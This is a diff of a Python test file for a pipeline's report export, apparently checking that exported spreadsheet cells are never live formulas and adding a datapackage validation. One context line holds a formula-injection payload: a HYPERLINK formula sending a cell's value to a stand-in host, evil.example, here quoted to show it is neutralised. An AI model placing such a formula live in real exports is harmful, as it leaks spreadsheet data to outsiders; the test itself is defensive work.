@@ -6,11 +6,12 @@ import os
 import re
 from pathlib import Path
 
+import frictionless
 import polars as pl
 import pytest
 
 from flows.pipeline import Summary
-from flows.reports.export import export
+from flows.reports.export import Form, export
 from flows.reports.spreadsheets import FORMULA, NUMBER
 from flows.terminal import ACTIVE
 from flows.warehouse.places import Places, places
@@ -115,7 +116,7 @@ def test_tracebacks_are_harmless_too(tmp_path: Path) -> None:
 
 
 def test_no_cell_of_an_export_is_a_formula(ran: tuple[Places, str], tmp_path: Path) -> None:
-    files = export(ran[0], tmp_path / "out", with_texts=True)
+    files = export(ran[0], tmp_path / "out", Form.csv, with_bodies=True)
     cells = set()
     for file in files:
         assert file.parent == tmp_path / "out"
@@ -126,6 +127,8 @@ def test_no_cell_of_an_export_is_a_formula(ran: tuple[Places, str], tmp_path: Pa
     assert '\'=HYPERLINK("https://evil.example?x="&A1,"read on")' in cells
     formulas = texts.filter(texts.str.contains(FORMULA) & ~texts.str.contains(NUMBER) & ~texts.str.starts_with("'"))
     assert formulas.to_list() == []
+    report = frictionless.validate(str(tmp_path / "out" / "datapackage.json"))
+    assert report.valid, report.flatten(["title", "message"])
 
 
 def test_a_run_log_in_markdown_has_no_markup_of_theirs() -> None:
